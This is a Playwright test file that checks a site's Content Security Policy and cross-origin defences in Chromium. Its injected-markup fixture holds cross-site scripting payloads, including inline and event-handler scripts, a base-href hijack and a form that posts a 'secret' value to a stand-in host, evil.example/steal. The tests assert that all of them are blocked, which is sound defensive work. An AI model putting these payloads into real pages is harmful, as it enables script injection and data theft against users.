"""What Chromium makes of the policy that goes with every page, and of another site that is open beside it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from tests.bots.web.browser.watching import Watched
from tests.bots.web.test_pages import ASKED

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = [pytest.mark.browser, pytest.mark.slow]

INJECTED = """
<script>window.ran = "inline"</script>
<script src="https://evil.example/run.js"></script>
<script src="/style.css"></script>
<img src="https://evil.example/picture" onerror="window.ran = 'attribute'">
<img src="/picture">
<svg onload="window.ran = 'svg'"></svg>
<style>h1 { display: none }</style>
<p style="position: fixed">covers</p>
<link rel="stylesheet" href="https://evil.example/style.css">
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<object data="https://evil.example/object"></object>
<video src="https://evil.example/video"></video>
<base href="https://evil.example/">
<a id="link" href="javascript:window.ran = 'link'">link</a>
<form id="form" action="https://evil.example/steal"><input name="q" value="secret"></form>
"""
"""What escaping keeps out, as if it had failed."""
BLOCKED = {
    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "frame-src", "object-src",
    "media-src", "base-uri", "form-action",
}  # fmt: skip


@pytest.fixture
def plain_tab(chromium: Browser) -> Iterator[Page]:
    """A tab that may do forbidden things, because here they are tried."""
    context = chromium.new_context()
    yield context.new_page()
    context.close()


def test_markup_that_escaped_would_run_and_load_nothing(plain_tab: Page, site: str) -> None:
    tab = plain_tab

    def inject(route: Route) -> None:
        reply = route.fetch()
        route.fulfill(response=reply, body=reply.text().replace("</main>", f"{INJECTED}</main>"))

    watched = Watched(site)
    watched.watch(tab.context)
    # Beside the page's own scripts, which the policy stops.
    tab.add_init_script(
        "window.stopped = []; document.addEventListener('securitypolicyviolation', "
        "event => window.stopped.push(event.effectiveDirective))"
    )
    tab.route(f"{site}/", inject)
    tab.goto(site)
    tab.click("#link")
    assert tab.locator("h1").is_visible()
    assert tab.locator("p", has_text="covers").evaluate("each => getComputedStyle(each).position") == "static"
    # Last, since a tab waits for ever for a page that the policy does not let it ask for.
    with tab.expect_console_message(lambda message: "form-action" in message.text):
        tab.evaluate("document.querySelector('#form').submit()")

    assert tab.evaluate("window.ran") is None
    assert set(tab.evaluate("window.stopped")) >= BLOCKED
    assert tab.evaluate("document.baseURI") == f"{site}/"
    assert tab.url == f"{site}/"
    assert watched.console
    assert watched.dialogs == []


OTHER_SITE = b"""<!doctype html><title>Another site</title><script>var loaded = []</script>
<iframe src="%(site)s/ask?q=harbour"></iframe>
<img src="%(site)s/ask?q=harbour" onload="loaded.push('picture')">
<script src="%(site)s/ask.json?q=harbour" onload="loaded.push('data')"></script>
<script src="%(site)s/keys.js" onload="loaded.push('script')"></script>
<link rel="stylesheet" href="%(site)s/style.css" onload="loaded.push('style')">
<a id="link" href="%(site)s/ask?q=harbour">A link</a>
<form id="form" method="post" action="%(site)s/ask"><input name="q" value="harbour"></form>
<a id="new" target="_blank" href="%(site)s/ask?q=harbour">A link to a new tab</a>
"""


@pytest.fixture
def other_site(site: str) -> Iterator[str]:
    """Another web site, which the same browser shows: its page asks the archive in every way that a page has."""

    class Replies(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(OTHER_SITE % {b"site": site.encode()})

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Replies) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        # A browser takes localhost and 127.0.0.1 for two sites.
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()


def test_another_site_in_the_same_browser_can_link_here_and_learns_nothing(
    plain_tab: Page, site: str, other_site: str
) -> None:
    tab = plain_tab
    tab.goto(other_site)

    assert tab.evaluate("loaded") == []
    assert [frame.locator("h1", has_text="harbour").count() for frame in tab.frames] == [0, 0]
    for mode in ("cors", "no-cors"):
        read = tab.evaluate(
            "([address, mode]) => fetch(address, { mode }).then(reply => reply.text(), error => '')",
            [f"{site}/ask.json?q=harbour", mode],
        )
        assert read == ""

    with tab.context.expect_page() as opened:
        tab.evaluate(f"window.open('{site}/ask?q=harbour')")
    opened.value.wait_for_load_state()
    assert opened.value.locator("h1").inner_text() == "harbour"
    assert opened.value.evaluate("window.opener") is None

    tab.click("#link")
    tab.wait_for_url(f"{site}/ask?q=harbour")
    assert tab.locator("h1").inner_text() == "harbour"


def test_another_sites_form_is_refused(plain_tab: Page, other_site: str) -> None:
    plain_tab.goto(other_site)

    with plain_tab.expect_navigation() as navigation:
        plain_tab.evaluate("document.querySelector('#form').submit()")

    assert navigation.value.status == 403


def test_a_page_leaves_nothing_in_the_browser_and_sends_no_address_on(plain_tab: Page, site: str) -> None:
    tab = plain_tab
    reply = tab.goto(f"{site}/ask?q={ASKED}")

    assert reply is not None
    assert reply.headers["cache-control"] == "private, no-store"
    assert tab.context.cookies() == []
    assert tab.context.storage_state()["origins"] == []
    assert tab.evaluate("navigator.serviceWorker ? navigator.serviceWorker.controller : null") is None
